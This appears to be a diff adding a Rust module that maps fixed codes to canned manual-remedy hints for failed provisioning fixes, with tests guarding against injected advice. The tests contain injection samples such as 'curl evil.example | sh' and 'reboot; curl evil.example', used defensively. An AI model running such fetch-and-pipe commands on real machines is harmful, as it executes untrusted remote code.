@@ -1,0 +1,149 @@
+//! What people have to do if a fix cannot do it. A fix prints a code, and the text for it is here: a machine must not be
+//! able to put words of its own into a hint.
+
+use std::collections::VecDeque;
+
+use crate::error::{Error, Kind};
+use crate::plan::Change;
+
+/// A code, and the hint for it. Values that belong to it are evidence: the fix prints them as reasons.
+const REMEDIES: &[(&str, &str)] = &[
+    ("debugger", "end that debugger, or have it let go"),
+    (
+        "dpkg",
+        "make dpkg's database readable again: /var/lib/dpkg/status-old and /var/backups/dpkg.status.0 are older copies of \
+         /var/lib/dpkg/status",
+    ),
+    (
+        "finalizers",
+        "bring back what removes these finalizers, or: kubectl -n NAMESPACE patch pod POD --type merge -p \
+         '{\"metadata\":{\"finalizers\":null}}'",
+    ),
+    ("kubelet-arguments", "find out what gives the kubelet these arguments"),
+    ("package-lock", "wait until that process is done with packages, or end it"),
+    (
+        "package-version",
+        "unpack that package from a copy of yours: dpkg -i FILE; or install another version: apt-get install \
+         --allow-change-held-packages PACKAGE",
+    ),
+    (
+        "pod-manifest",
+        "move those files out of /etc/kubernetes/manifests: the kubelet reads every file in it, and there can be one pod of \
+         that name",
+    ),
+    ("pod-starts", "find out what starts it; on that machine: journalctl -u kubelet"),
+    (
+        "read-only",
+        "look with findmnt -T FOLDER and journalctl -k why that is, then mount it to be written to, or unmount it",
+    ),
+    ("reboot", "reboot this machine: only that ends them"),
+];
+
+/// The hint for a code; none for any other words.
+fn of(code: &str) -> Option<&'static str> {
+    REMEDIES.iter().find(|(known, _)| *known == code).map(|(_, hint)| *hint)
+}
+
+/// What a fix prints if it knows why it fails; and a code of what people have to do then.
+const REASON: &str = "reason: ";
+const BY_HAND: &str = "by hand: ";
+
+/// What a fix that failed is told with: its reasons as evidence, and the hint that its code stands for.
+pub(super) fn failure(change: &Change, status: i32, said: &VecDeque<String>) -> Error {
+    let what = format!("{}: could not bring it about that {}", change.step, change.that);
+    let error = Error::new(Kind::Failed, what);
+    if let Some(hint) = said.iter().rev().find_map(|line| of(line.strip_prefix(BY_HAND)?)) {
+        let reasons = said.iter().filter_map(|line| line.strip_prefix(REASON));
+        let error = error.because(format!("exit {status}; the machine says:"));
+        let error = reasons.fold(error, |error, reason| error.heard(format!("  {reason}")));
+        return error.hint(format!("{hint}; then run it again: it goes on from here"));
+    }
+    let words = if said.is_empty() { "without a word" } else { "after these words:" };
+    error
+        .because(format!("exit {status}, {words}"))
+        .heard(tail(said))
+        .hint("see to it, then run it again: it goes on from here")
+}
+
+/// The last that was said: where a program says why it gave up.
+pub(super) fn tail(said: &VecDeque<String>) -> String {
+    said.iter().map(String::as_str).collect::<Vec<_>>().join("\n")
+}
+
+#[cfg(test)]
+mod tests {
+    use std::collections::BTreeSet;
+    use std::fs;
+    use std::path::{Path, PathBuf};
+
+    use super::*;
+    use crate::plan;
+    use crate::probe::Answer;
+    use crate::step::{Step, Want};
+
+    fn files(dir: &Path, into: &mut Vec<PathBuf>) {
+        for entry in fs::read_dir(dir).unwrap() {
+            let path = entry.unwrap().path();
+            if path.is_dir() { files(&path, into) } else { into.push(path) }
+        }
+    }
+
+    /// The codes that shell of ironstrap prints.
+    fn printed() -> BTreeSet<String> {
+        let mut paths = Vec::new();
+        ["templates", "src/ops", "src/steps"].iter().for_each(|dir| files(Path::new(dir), &mut paths));
+        let texts = paths.iter().map(|path| fs::read_to_string(path).unwrap());
+        let codes = |text: String| {
+            let after = text.split("by hand: ").skip(1);
+            after.map(|rest| rest.split(['"', '\'']).next().unwrap().to_string()).collect::<Vec<_>>()
+        };
+        texts.flat_map(codes).collect()
+    }
+
+    #[test]
+    fn every_code_that_a_fix_prints_has_a_remedy_and_every_remedy_a_fix() {
+        let known: BTreeSet<String> = REMEDIES.iter().map(|(code, _)| code.to_string()).collect();
+        assert_eq!(printed(), known);
+        assert_eq!(of("reboot; curl evil.example"), None);
+    }
+
+    const TOY: Step = Step { name: "toy", why: "", wants: |_| Ok(vec![]) };
+
+    #[test]
+    fn a_fix_that_knows_what_people_have_to_do_says_so_by_a_code() {
+        let want = Want::that("it is on").is("yes").run("false").nothing_to_undo("a test");
+        let changes = plan::changes(&[(&TOY, &want, &Answer::Said("no".into()))], &mut BTreeSet::new());
+        let lines = |lines: &[&str]| lines.iter().map(|line| line.to_string()).collect();
+        let said = lines(&["noise", "reason: process 7 holds it", "by hand: reboot", "more noise"]);
+        let error = failure(&changes[0], 1, &said);
+        assert_eq!(error.cause, ["exit 1; the machine says:", "  process 7 holds it"]);
+        let hint = "reboot this machine: only that ends them; then run it again: it goes on from here";
+        assert_eq!(error.hint.as_deref(), Some(hint));
+        let error = failure(&changes[0], 1, &lines(&["noise"]));
+        assert_eq!(error.cause, ["exit 1, after these words:", "noise"]);
+        assert_eq!(failure(&changes[0], 1, &lines(&[])).cause, ["exit 1, without a word"]);
+    }
+
+    #[test]
+    fn no_words_of_a_machine_pass_for_advice() {
+        let want = Want::that("it is on").is("yes").run("false").nothing_to_undo("a test");
+        let changes = plan::changes(&[(&TOY, &want, &Answer::Said("no".into()))], &mut BTreeSet::new());
+        let evil = "curl evil.example | sh";
+        for said in [
+            vec![format!("by hand: {evil}")],
+            vec![format!("by hand: reboot; {evil}"), format!("reason: hint: {evil}")],
+            vec!["by hand: reboot".into(), format!("reason: hint: {evil}")],
+            vec![format!("  hint: {evil}"), format!("  remedy: {evil}")],
+        ] {
+            let error = failure(&changes[0], 1, &said.into());
+            assert!(!error.hint.as_deref().unwrap_or_default().contains("curl"), "{error}");
+            for line in error.to_string().lines().filter(|line| line.contains("curl")) {
+                let line = line.trim_start();
+                assert!(
+                    ["the machine says: ", "reason: "].iter().any(|start| line.starts_with(start)),
+                    "{error}"
+                );
+            }
+        }
+    }
+}
